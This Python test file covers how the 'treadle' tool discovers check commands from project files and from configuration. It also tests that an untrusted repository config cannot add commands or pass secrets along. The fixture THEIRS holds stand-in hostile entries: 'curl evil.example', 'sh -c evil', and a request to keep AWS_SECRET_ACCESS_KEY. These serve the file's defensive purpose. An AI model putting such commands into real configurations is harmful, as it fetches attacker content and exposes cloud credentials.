"""The checks of a project, by its files and by the configuration."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.checks.projects import Project
from treadle.checks.discovery import find_checks
from treadle.config.loader import load
from treadle.config.model import CheckSettings, Settings


def commands(root: Path, settings: CheckSettings | None = None) -> dict[str, str]:
    checks = find_checks(root, settings or CheckSettings())
    return {check.name: check.command() for check in checks}


PYTEST = {"pytest": "pytest --tb=short -rfE --color=no"}
MYPY = "mypy --show-column-numbers --no-pretty --hide-error-context --no-color-output"
RUFF = {"ruff": "ruff check --output-format=json-lines"}


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"pytest.ini": "[pytest]"}, PYTEST),
        ({"pyproject.toml": "[tool.pytest.ini_options]\n"}, PYTEST),
        ({"setup.cfg": "[tool:pytest]\n"}, PYTEST),
        ({"tox.ini": "[pytest]\n"}, PYTEST),
        ({"tox.ini": "[tox]\n"}, {}),
        ({"conftest.py": ""}, PYTEST),
        ({"tests/test_a.py": ""}, PYTEST),
        ({"tests/unit/test_a.py": ""}, PYTEST),
        ({"tests/a.rs": ""}, {}),
        ({"ruff.toml": ""}, RUFF),
        ({"pyproject.toml": "[tool.ruff]\nline-length = 100\n"}, RUFF),
        ({"pyproject.toml": "[tool.black]\n"}, {}),
        ({"pyproject.toml": "[tool.mypy]\nfiles = ['src']\n"}, {"mypy": MYPY}),
        ({"mypy.ini": "[mypy]\nstrict = True\n"}, {"mypy": f"{MYPY} ."}),
        (
            {"Cargo.toml": "[package]\n"},
            {
                "cargo check": "cargo check --message-format=json",
                "cargo test": "cargo test --message-format=json",
            },
        ),
        ({"package.json": '{"scripts": {"test": "vitest run"}}'}, {"npm test": "npm test"}),
        ({"package.json": '{"scripts": {"test": "echo \\"no test specified\\" && exit 1"}}'}, {}),
        ({"package.json": '{"scripts": ["test"]}'}, {}),
        ({"package.json": "[" * 100_000}, {}),
        ({"tsconfig.json": "{}"}, {"tsc": "tsc --noEmit --pretty false"}),
        ({"go.mod": "module m\n"}, {"go test": "go test -json ./...", "go vet": "go vet ./..."}),
        (
            {"Makefile": "test: build\n\tpytest\nbuild check:\n\ttrue\n"},
            {"make check": "make check", "make test": "make test"},
        ),
        ({"GNUmakefile": ".PHONY: test\nlint:\n\ttrue\n", "Makefile": "test:\n\ttrue\n"}, {}),
        ({"Makefile": "test = 1\ntest := 2\ncheck ::= 3\n# test: no\n\ttest: no\n"}, {}),
        ({"Makefile": "test:: a\n\ttrue\n"}, {"make test": "make test"}),
        ({"pyproject.toml": "no toml ["}, {}),
        ({"pyproject.toml": "tool = 3"}, {}),
        ({"pyproject.toml": b"\xff\xfe\x00"}, {}),
        ({"setup.cfg": "[mypy\nno section"}, {}),
        ({}, {}),
    ],
)
def test_project_files_define_checks(
    project: Project, files: Mapping[str, str | bytes], expected: dict[str, str]
) -> None:
    for name, content in files.items():
        project.write(name, content)
    assert commands(project.root) == expected


def test_invalid_project_files_are_ignored(project: Project) -> None:
    (project.root / "Makefile").mkdir()
    (project.root / "package.json").symlink_to("/dev/zero")
    project.write("pyproject.toml", "[tool.ruff]\n" + "#" * 1_100_000)
    assert commands(project.root) == {}


def settings(**table: Any) -> CheckSettings:
    return CheckSettings.model_validate(table)


def test_configured_checks_come_first_and_replace_found_ones(project: Project) -> None:
    project.write("pytest.ini", "[pytest]")
    project.write("Cargo.toml", "")
    checks = find_checks(
        project.root,
        settings(
            timeout=5,
            commands={
                "pytest": {"command": ["pytest", "-q", "a b"], "paths": True},
                "fuzz": {"command": ["./fuzz"], "kind": "build", "timeout": 7, "parser": "lines"},
                "cargo test": {"timeout": 9},
                "unknown": {"timeout": 9},
            },
        ),
    )
    assert [(c.name, c.command(), c.origin, c.timeout) for c in checks] == [
        ("pytest", "pytest -q 'a b'", "configuration", 5),
        ("fuzz", "./fuzz", "configuration", 7),
        ("cargo check", "cargo check --message-format=json", "Cargo.toml", 5),
        ("cargo test", "cargo test --message-format=json", "Cargo.toml", 9),
    ]
    assert (checks[0].takes_paths, checks[0].parser) == (True, "auto")
    assert (checks[1].kind, checks[1].parser) == ("build", "lines")


def test_a_path_replaces_the_default_targets(project: Project) -> None:
    project.write("mypy.ini", "[mypy]\n")
    (check,) = find_checks(project.root, CheckSettings())
    assert check.command() == f"{MYPY} ."
    assert check.command(["src/a.py", "b c.py"]) == f"{MYPY} src/a.py 'b c.py'"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TREADLE_HOME", str(tmp_path / "home"))
    folder = tmp_path / "home/config"
    folder.mkdir(parents=True)
    return folder


THEIRS = """
[checks]
keep_keys = ["AWS_SECRET_ACCESS_KEY"]
[checks.commands.theirs]
command = ["curl", "evil.example"]
[checks.commands.pytest]
command = ["sh", "-c", "evil"]
timeout = 3
"""


def loaded(project: Project) -> Settings:
    return load(project.root, {}, {}).settings


def test_a_repository_adds_no_command_until_it_is_trusted(project: Project, home: Path) -> None:
    project.write("pytest.ini", "[pytest]")
    project.write(".treadle/config.toml", THEIRS)
    (check,) = find_checks(project.root, loaded(project).checks)
    assert (check.command(), check.timeout) == (PYTEST["pytest"], 3)
    warning = load(project.root, {}, {}).warnings[0]
    assert "checks.commands.theirs.command" in warning
    (home / "config.toml").write_text(f'trusted_roots = ["{project.root}"]\n')
    assert "theirs" in commands(project.root, loaded(project).checks)


def test_a_repository_cannot_choose_which_keys_checks_get(project: Project, home: Path) -> None:
    project.write(".treadle/config.toml", THEIRS)
    (home / "config.toml").write_text(f'trusted_roots = ["{project.root}"]\n')
    assert loaded(project).checks.keep_keys == ()
